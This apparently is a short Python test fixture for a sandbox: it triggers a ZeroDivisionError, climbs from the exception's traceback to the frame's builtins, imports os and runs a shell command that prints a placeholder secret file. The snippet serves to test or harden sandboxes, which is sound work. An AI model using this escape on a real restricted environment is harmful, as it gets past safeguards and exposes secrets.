# A traceback leads to the frame that raised.
# effect: run
try:
    1 / 0
except ZeroDivisionError as error:
    error.__traceback__.tb_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
